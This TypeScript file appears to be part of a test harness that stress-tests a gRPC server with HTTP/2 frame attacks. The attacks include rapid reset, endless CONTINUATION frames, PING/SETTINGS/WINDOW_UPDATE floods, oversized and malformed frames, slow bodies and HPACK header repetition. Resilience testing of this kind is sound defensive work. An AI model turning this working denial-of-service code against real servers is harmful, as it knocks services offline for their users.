/** Attacks made of frames. */
import { encodeFields, encodeFrame, FLAG, TYPE, uint32 } from '../support/http2-frames.ts';
import { type AttackConnection, hammer } from './attack-connection.ts';
import type { Attack } from './attacks.ts';

const NOTHING = Buffer.alloc(0);
const FRAMES_AT_ONCE = 512;
const METHOD = '/messaging.v1.MessageService/GetMessage';
const callHeaders = (path = METHOD, more: readonly (readonly [string, string])[] = []) =>
  encodeFields([
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', path],
    [':authority', 'localhost'],
    ['content-type', 'application/grpc'],
    ['te', 'trailers'],
    ...more,
  ]);
const HEADERS = callHeaders();
const LARGE_HEADERS = callHeaders(
  METHOD,
  Array.from({ length: 40 }, (_, index) => [`x-${'n'.repeat(50)}-${index}`, 'v'.repeat(300)]),
);
/** Adds a field to the table of the connection's fields, where it is number 62 from then on. */
const REMEMBER_FIELD = Buffer.concat([HEADERS, Buffer.from([0x40, 1, 0x78, 1, 0x76])]);
const REMEMBERED_FIELDS = Buffer.concat([HEADERS, Buffer.alloc(200, 0x80 | 62)]);
const MANY_HEADERS = callHeaders(
  METHOD,
  Array.from({ length: 200 }, (_, index) => [`x-${index}`, 'v']),
);

const many = (make: (index: number) => Uint8Array): Buffer =>
  Buffer.concat(Array.from({ length: FRAMES_AT_ONCE }, (_, index) => make(index)));
const repeat = (frame: Uint8Array): Buffer => many(() => frame);

/** Sends the same bytes again and again, over each of so many connections. */
function flood(name: string, connections: number, bytes: Uint8Array, secure = false): Attack {
  return {
    name,
    secure,
    run: ({ grpcPort, tlsPort }, seen, signal) =>
      hammer(connections, seen, signal, async (connect) => {
        const connection = await connect({ port: secure ? tlsPort : grpcPort, secure, settings: NOTHING });
        while (connection?.isOpen === true) await connection.write(bytes);
      }),
  };
}

/** Opens streams in the order of their numbers, `work` at a time. */
function streams(
  name: string,
  { connections, secure = false, most }: { readonly connections: number; readonly secure?: boolean; readonly most?: number },
  work: (stream: number) => Uint8Array,
): Attack {
  return {
    name,
    secure,
    run: ({ grpcPort, tlsPort }, seen, signal) =>
      hammer(connections, seen, signal, async (connect) => {
        const connection = await connect({ port: secure ? tlsPort : grpcPort, secure, settings: NOTHING });
        if (connection === undefined) return;
        let opened = 0;
        while (connection.isOpen && opened < (most ?? Number.POSITIVE_INFINITY)) {
          await connection.write(many((index) => work(2 * (opened + index) + 1)));
          opened += FRAMES_AT_ONCE;
        }
        await connection.closed;
      }),
  };
}

const reset = (stream: number, code = 8) => encodeFrame(TYPE.reset, 0, stream, uint32(code));
const open = (stream: number) => encodeFrame(TYPE.headers, FLAG.endHeaders, stream, HEADERS);
/** All that comes of its stream. */
const head = (stream: number, fields: Uint8Array) => encodeFrame(TYPE.headers, FLAG.endHeaders | FLAG.endStream, stream, fields);
/** A call that a handler answers, with an error: there is nothing in it. */
const invalid = (stream: number) => Buffer.concat([open(stream), encodeFrame(TYPE.data, FLAG.endStream, stream, Buffer.alloc(5))]);
/** The head of a gRPC frame that promises so many bytes, and some of them. */
function begun(stream: number, promised: number, sent: number): Buffer {
  const data = Buffer.alloc(5 + sent);
  data.writeUInt32BE(promised, 1);
  return Buffer.concat([open(stream), encodeFrame(TYPE.data, 0, stream, data)]);
}

/** One frame a turn, so that what went wrong is what this one did. */
function once(name: string, connections: number, send: (connection: AttackConnection) => Promise<void>): Attack {
  return {
    name,
    run: ({ grpcPort }, seen, signal) =>
      hammer(connections, seen, signal, async (connect) => {
        const connection = await connect({ port: grpcPort, settings: NOTHING });
        if (connection === undefined) return;
        await send(connection);
        await connection.closed;
      }),
  };
}

const LARGEST_WINDOW = 0x7fffffff;
const BODY_BYTES = 60_000;

export const frameAttacks: readonly Attack[] = [
  streams('rapid reset', { connections: 10 }, (stream) => Buffer.concat([open(stream), reset(stream)])),
  streams('rapid reset, TLS', { connections: 10, secure: true }, (stream) => Buffer.concat([open(stream), reset(stream)])),
  streams('reset of half-sent bodies', { connections: 10 }, (stream) => Buffer.concat([begun(stream, 1_000_000, 10_000), reset(stream)])),
  {
    name: 'CONTINUATION without end',
    run: ({ grpcPort }, seen, signal) =>
      hammer(10, seen, signal, async (connect) => {
        const connection = await connect({ port: grpcPort, settings: NOTHING });
        await connection?.write(encodeFrame(TYPE.headers, 0, 1, HEADERS));
        const more = encodeFrame(TYPE.continuation, 0, 1, encodeFields([['x-more', 'x'.repeat(100)]]));
        while (connection?.isOpen === true) await connection.write(repeat(more));
      }),
  },
  flood('SETTINGS flood', 10, repeat(encodeFrame(TYPE.settings, 0, 0, NOTHING))),
  flood('PING flood', 10, repeat(encodeFrame(TYPE.ping, 0, 0, Buffer.alloc(8)))),
  flood('PING flood, TLS', 10, repeat(encodeFrame(TYPE.ping, 0, 0, Buffer.alloc(8))), true),
  flood(
    'PRIORITY flood',
    10,
    many((index) => encodeFrame(TYPE.priority, 0, 2 * index + 1, Buffer.from([0, 0, 0, 0, 16]))),
  ),
  flood('frames of unknown type', 10, repeat(encodeFrame(0xfa, 0, 0, Buffer.alloc(64)))),
  flood('WINDOW_UPDATE flood', 10, repeat(encodeFrame(TYPE.windowUpdate, 0, 0, uint32(1)))),
  flood('empty DATA flood', 10, Buffer.concat([open(1), repeat(encodeFrame(TYPE.data, 0, 1, NOTHING))])),
  once('WINDOW_UPDATE overflow', 10, (connection) =>
    connection.write(Buffer.concat([0, 1].map(() => encodeFrame(TYPE.windowUpdate, 0, 0, uint32(LARGEST_WINDOW))))),
  ),
  once('WINDOW_UPDATE of 0', 10, (connection) => connection.write(encodeFrame(TYPE.windowUpdate, 0, 0, uint32(0)))),
  once('stream ids that go back', 10, (connection) => connection.write(Buffer.concat([open(101), open(5)]))),
  once('even stream ids', 10, (connection) => connection.write(open(2))),
  once('DATA on no stream', 10, (connection) => connection.write(encodeFrame(TYPE.data, 0, 0, Buffer.alloc(10)))),
  once('a frame longer than allowed', 10, (connection) => connection.write(encodeFrame(TYPE.data, 0, 1, Buffer.alloc(1_000_000)))),
  streams('streams without a body', { connections: 100, most: 1_000 }, open),
  streams('streams without a body, TLS', { connections: 100, most: 1_000, secure: true }, open),
  streams('more streams than allowed', { connections: 10, most: 50_000 }, open),
  streams('half-sent bodies', { connections: 10, most: 1_000 }, (stream) => begun(stream, 8_000_000, BODY_BYTES)),
  streams('a length prefix of 4 GiB', { connections: 10, most: 1_000 }, (stream) => begun(stream, 0xffffffff, 100)),
  {
    name: 'bodies byte by byte',
    run: ({ grpcPort }, seen, signal) =>
      hammer(100, seen, signal, async (connect) => {
        const connection = await connect({ port: grpcPort, settings: NOTHING });
        await connection?.write(Buffer.concat(Array.from({ length: 10 }, (_, index) => begun(2 * index + 1, 1_000, 0))));
        while (connection?.isOpen === true && !signal.aborted) {
          for (let index = 0; index < 10; index += 1) await connection.write(encodeFrame(TYPE.data, 0, 2 * index + 1, Buffer.alloc(1)));
          await new Promise((resolve) => setTimeout(resolve, 200));
        }
      }),
  },
  streams('headers of 16 KB', { connections: 10 }, (stream) => head(stream, LARGE_HEADERS)),
  streams('200 headers', { connections: 10 }, (stream) => head(stream, MANY_HEADERS)),
  streams('one header 200 times', { connections: 10 }, (stream) =>
    stream === 1 ? head(1, REMEMBER_FIELD) : head(stream, REMEMBERED_FIELDS),
  ),
  streams('one header 200 times, between calls', { connections: 10 }, (stream) => {
    if (stream === 1) return head(1, REMEMBER_FIELD);
    return stream % 32 === 1 ? invalid(stream) : head(stream, REMEMBERED_FIELDS);
  }),
];
